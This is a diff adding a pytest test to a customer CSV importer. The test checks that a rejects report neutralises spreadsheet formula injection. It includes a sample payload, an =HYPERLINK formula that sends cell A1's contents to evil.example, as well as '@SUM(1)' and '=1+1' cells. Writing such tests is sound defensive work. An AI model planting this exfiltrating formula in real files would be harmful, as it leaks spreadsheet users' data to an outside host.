@@ -157,3 +157,18 @@ def test_unreadable_files_are_clear_errors(engine, tmp_path):
     (tmp_path / "latin1.csv").write_bytes("external_id,name\nT-l,J\xe4rvinen\n".encode("latin-1"))
     with pytest.raises(InvalidInput, match="not UTF-8"):
         import_customers(engine, tmp_path / "latin1.csv", progress=False)
+
+
+def test_the_rejects_report_carries_no_live_formula(engine, city, clean, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    bad = [
+        ["T-f1", "Fine", "person", "customer", "1", "0.1", *STATION],
+        [formula, "Bad stage", "person", "champion", "1", "0.1", *STATION],
+        ["@SUM(1)", "Bad revenue", "person", "customer", "=1+1", "0.1", *STATION],
+    ]
+    report = import_customers(engine, write_csv(tmp_path / "f.csv", bad), progress=False)
+    assert report.rejected == 2
+    with report.rejects_file.open(newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert "'" + formula in cells and "'@SUM(1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
